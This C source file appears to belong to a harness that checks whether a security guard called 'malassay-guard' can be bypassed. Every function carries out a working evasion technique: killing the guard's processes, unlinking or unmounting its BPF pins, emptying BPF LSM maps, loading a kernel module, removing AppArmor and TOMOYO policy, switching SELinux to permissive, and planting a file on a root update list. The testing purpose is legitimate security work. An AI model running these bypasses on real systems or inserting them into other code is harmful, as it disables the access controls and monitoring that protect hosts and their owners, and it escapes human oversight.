/* Ways against a guard itself. They do not apply where there is none of the kind. */
#define _GNU_SOURCE
#include "bypass.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/bpf.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <unistd.h>

#define BPF_FOLDER "/sys/fs/bpf"
#define POLICY "/sys/kernel/security/"
#define UPDATE "/usr/local/sbin/malassay-update"
#define UPDATES PLACE "updates"

enum { PIDFD_OPEN = 434, FINIT_MODULE = 379, COMPRESSED = 4, BPF_MAGIC = 0xcafe4a11 };

/* ---- its processes and pins ---- */

static int killed, refusals;

/* As a step failed: refusals is errno of the last that was refused, and not only came to nothing. */
static void note_refusal(void) {
  if (errno == EPERM || errno == EACCES) refusals = errno;
}

/* Open when nothing is refused any more, whatever became of this step; else it is told why not. */
static enum outcome proven_after(const char *step) {
  enum outcome outcome = proven_here();
  errno = refusals;
  return outcome == OPEN || !refusals ? outcome : failed(step);
}

/* Who may do all is kept from nothing, and needs no way around. */
static int is_free(void) { return proven_here() == OPEN; }

static enum outcome no_guard(void) { return absent("nothing is refused here"); }

/* Kills all processes whose program has that name; counts those that it could. */
static void kill_by_name(const char *name) {
  char path[64], comm[32];
  DIR *processes = opendir("/proc");
  killed = refusals = 0;
  for (struct dirent *at; processes && (at = readdir(processes));) {
    pid_t id = atoi(at->d_name);
    if (id <= 1) continue;
    snprintf(path, sizeof path, "/proc/%d/comm", (int)id);
    if (read_text(path, comm, sizeof comm) <= 0) continue;
    comm[strcspn(comm, "\n")] = 0;
    if (strcmp(comm, name)) continue;
    if (kill(id, SIGKILL)) note_refusal();
    else killed++;
  }
  if (processes) closedir(processes);
  if (killed) usleep(300000);
}

static enum outcome by_kill(void) {
  if (is_free()) return no_guard();
  kill_by_name("malassay-guard");
  if (killed + refusals == 0) return absent("no process of a guard is there");
  return proven_after("kill");
}

static int is_bpf_folder(void) {
  struct statfs is;
  return statfs(BPF_FOLDER, &is) == 0 && (unsigned)is.f_type == BPF_MAGIC;
}

static int pins;

static int unpin(const char *path, const struct stat *is, int type, struct FTW *where) {
  (void)is, (void)where;
  if (type != FTW_F && type != FTW_NS) return 0;
  pins++;
  if (unlink(path)) note_refusal();
  return 0;
}

static enum outcome by_unpinning(void) {
  if (is_free()) return no_guard();
  kill_by_name("malassay-guard");
  pins = refusals = 0;
  if (!is_bpf_folder()) return absent("there is no " BPF_FOLDER);
  nftw(BPF_FOLDER, unpin, 16, FTW_PHYS);
  if (pins == 0) return absent("nothing is pinned");
  usleep(500000); /* the kernel lets go of it later */
  return proven_after("unlink a pin");
}

static int count_pin(const char *path, const struct stat *is, int type, struct FTW *where) {
  (void)path, (void)is, (void)where;
  pins += type == FTW_F || type == FTW_NS;
  return 0;
}

static enum outcome by_unmounting(void) {
  if (is_free()) return no_guard();
  kill_by_name("malassay-guard");
  pins = 0;
  if (!is_bpf_folder()) return absent("there is no " BPF_FOLDER);
  nftw(BPF_FOLDER, count_pin, 16, FTW_PHYS);
  if (pins == 0) return absent("nothing is pinned");
  if (umount2(BPF_FOLDER, MNT_DETACH)) return failed("umount " BPF_FOLDER);
  usleep(500000);
  return proven_here();
}

/* ---- its maps ---- */

static int bpf(int command, union bpf_attr *attributes) {
  return (int)syscall(__NR_bpf, command, attributes, sizeof *attributes);
}

/* Empties a map of a guard; of one of tasks, takes out the calling process. */
static void empty(int map) {
  struct bpf_map_info is = {0};
  union bpf_attr call = {.info = {.bpf_fd = map, .info_len = sizeof is, .info = (uintptr_t)&is}};
  static char key[4096];
  if (bpf(BPF_OBJ_GET_INFO_BY_FD, &call) || is.key_size > sizeof key) return;
  if (is.type == BPF_MAP_TYPE_TASK_STORAGE) {
    int self = (int)syscall(PIDFD_OPEN, getpid(), 0);
    union bpf_attr delete = {.map_fd = (unsigned)map, .key = (uintptr_t)&self};
    bpf(BPF_MAP_DELETE_ELEM, &delete);
    close(self);
  } else if (is.type == BPF_MAP_TYPE_HASH) {
    for (int most = 0; most < 100000; most++) {
      union bpf_attr next = {.map_fd = (unsigned)map, .next_key = (uintptr_t)key};
      if (bpf(BPF_MAP_GET_NEXT_KEY, &next)) return;
      union bpf_attr delete = {.map_fd = (unsigned)map, .key = (uintptr_t)key};
      if (bpf(BPF_MAP_DELETE_ELEM, &delete)) return;
    }
  }
}

static enum outcome by_maps(void) {
  if (is_free()) return no_guard();
  int found = 0;
  for (unsigned int id = 0;;) {
    union bpf_attr next = {.start_id = id};
    if (bpf(BPF_PROG_GET_NEXT_ID, &next)) {
      if (errno == ENOENT) break;
      return errno == ENOSYS ? absent("the kernel has no bpf") : failed("bpf");
    }
    id = next.next_id;
    union bpf_attr get = {.prog_id = id};
    int program = bpf(BPF_PROG_GET_FD_BY_ID, &get);
    if (program < 0) continue;
    unsigned int maps[64];
    struct bpf_prog_info is = {.nr_map_ids = 64, .map_ids = (uintptr_t)maps};
    union bpf_attr tell = {.info = {.bpf_fd = program, .info_len = sizeof is, .info = (uintptr_t)&is}};
    if (bpf(BPF_OBJ_GET_INFO_BY_FD, &tell) == 0 && is.type == BPF_PROG_TYPE_LSM) {
      found++;
      for (unsigned int i = 0; i < is.nr_map_ids && i < 64; i++) {
        union bpf_attr open_map = {.map_id = maps[i]};
        int map = bpf(BPF_MAP_GET_FD_BY_ID, &open_map);
        if (map < 0) continue;
        empty(map);
        close(map);
      }
    }
    close(program);
  }
  return found ? proven_here() : absent("no guard of BPF is loaded");
}

/* ---- the kernel ---- */

static char module[256];

static int find_module(const char *path, const struct stat *is, int type, struct FTW *where) {
  (void)is;
  if (type != FTW_F || strncmp(path + where->base, "dummy.ko", 8) || strlen(path) >= sizeof module)
    return 0;
  strcpy(module, path);
  return 1;
}

/* A module is loaded from a copy that one has written. */
static enum outcome by_module(void) {
  static char bytes[1 << 20];
  nftw("/lib/modules", find_module, 16, FTW_PHYS);
  if (!module[0]) return absent("no module of the kernel is on the disk");
  if (access("/sys/module/dummy", F_OK) == 0) return absent("the module is loaded already");
  int from = open(module, O_RDONLY | O_CLOEXEC);
  ssize_t n = from < 0 ? -1 : read(from, bytes, sizeof bytes);
  if (n <= 0) return failed("read a module");
  close(from);
  if (write_file(OWN "module", bytes, (size_t)n, O_CREAT, 0644)) return failed("write");
  int fd = open(OWN "module", O_RDONLY | O_CLOEXEC);
  int is_compressed = strcmp(strrchr(module, '.'), ".ko") != 0;
  if (syscall(FINIT_MODULE, fd, "", is_compressed ? COMPRESSED : 0)) return failed("load a module");
  return access("/sys/module/dummy", F_OK) ? not_told("the module was not loaded") : OPEN;
}

/* ---- policies ---- */

static int remove_profiles(void) {
  static char profiles[1 << 16];
  int count = 0;
  if (read_text(POLICY "apparmor/profiles", profiles, sizeof profiles) <= 0) return 0;
  for (char *line = strtok(profiles, "\n"); line; line = strtok(NULL, "\n")) {
    char *mode = strrchr(line, ' ');
    if (mode) *mode = 0;
    count++;
    if (write_file(POLICY "apparmor/.remove", line, strlen(line), 0, 0)) note_refusal();
  }
  return count;
}

static int disable_tomoyo(void) {
  static char profile[1 << 14];
  static const char disable[] = "0-CONFIG={ mode=disabled }\n1-CONFIG={ mode=disabled }\n"
                                "2-CONFIG={ mode=disabled }\n3-CONFIG={ mode=disabled }\n";
  if (read_text(POLICY "tomoyo/profile", profile, sizeof profile) <= 0) return 0;
  if (!strstr(profile, "mode=enforcing")) return 0;
  if (write_file(POLICY "tomoyo/profile", disable, strlen(disable), 0, 0)) note_refusal();
  return 1;
}

static int permit_all(void) {
  char enforces[8];
  if (read_text("/sys/fs/selinux/enforce", enforces, sizeof enforces) <= 0 || enforces[0] != '1')
    return 0;
  if (write_file("/sys/fs/selinux/enforce", "0", 1, 0, 0)) note_refusal();
  return 1;
}

static enum outcome by_policy(void) {
  if (is_free()) return no_guard();
  refusals = 0;
  if (remove_profiles() + disable_tomoyo() + permit_all() == 0)
    return absent("no policy of AppArmor, TOMOYO or SELinux is enforced");
  return proven_after("change the policy");
}

/* ---- the way out for updates ---- */

static enum outcome updated(void) {
  static const char *const update[] = {UPDATE, OWN "update", NULL};
  int status = run(update);
  if (status == SEVEN) return OPEN;
  const char *line = said("not listed");
  if (!line) line = said("not a file of root's");
  return line ? closed(line) : ended("malassay-update", status);
}

static enum outcome by_update_list(void) {
  static const char *const digest[] = {UPDATE, "--list", OWN "update", NULL};
  if (access(UPDATE, F_OK)) return absent("there is no way out for updates");
  if (write_payload(OWN "update", 0644)) return failed("write");
  int status = run(digest);
  return status == 0 ? updated() : ended("malassay-update --list", status);
}

static enum outcome by_own_list(void) {
  static const char *const digest[] = {UPDATE, "--list", OWN "update", OWN "updates", NULL};
  if (access(UPDATE, F_OK)) return absent("there is no way out for updates");
  if (write_payload(OWN "update", 0644)) return failed("write");
  if (write_text(OWN "updates", "")) return failed("write");
  chmod(OWN "updates", 0755); /* which is what makes a list one, and may fail */
  int status = run(digest);
  if (status) return ended("malassay-update --list", status);
  if (rename(OWN "updates", UPDATES)) return failed("rename over the list of updates");
  return updated();
}

const struct bypass GUARDS[] = {
    {"kill-guard", "the guard's process is killed", by_kill},
    {"unpin", "the guard's pins are removed", by_unpinning},
    {"umount-bpf", "the file system of the guard's pins is unmounted", by_unmounting},
    {"bpf-maps", "the guard's maps are emptied", by_maps},
    {"module", "a module of the kernel is loaded from a written file", by_module},
    {"policy", "the policy of AppArmor, TOMOYO or SELinux is taken away", by_policy},
    {"update-list", "a file of one's own is put on the list of updates", by_update_list},
    {"update-list-renamed", "a list of one's own is renamed over the list of updates", by_own_list},
    {NULL, NULL, NULL}};
